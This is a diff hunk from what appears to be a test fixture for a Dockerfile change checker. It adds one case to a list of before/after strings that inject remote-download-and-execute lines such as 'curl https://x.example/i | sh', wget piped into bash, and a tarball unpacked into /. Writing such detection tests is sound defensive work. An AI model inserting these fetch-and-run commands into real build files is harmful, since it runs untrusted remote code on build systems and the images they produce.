@@ -336,6 +336,7 @@ RUN curl -sSL https://x.example/1.0.0/old.sh | sh
     gains: [
       ["-y make", "-y make && \\\n    curl -sSL https://x.example/i.sh | bash", ["program 2"]],
       ["RUN apt-get update", 'RUN bash -c "$(wget -qO- https://x.example/i.sh)" && apt-get update', ["program 2"]],
+      ["old.sh | sh\n", "old.sh | sh\nRUN curl https://x.example/i | sh \\", ["program 5"]],
       ["-y make", "-y make\nRUN wget -O - https://x.example/a.tgz | tar xz -C /", ["program 4"]],
     ],
     passes: [
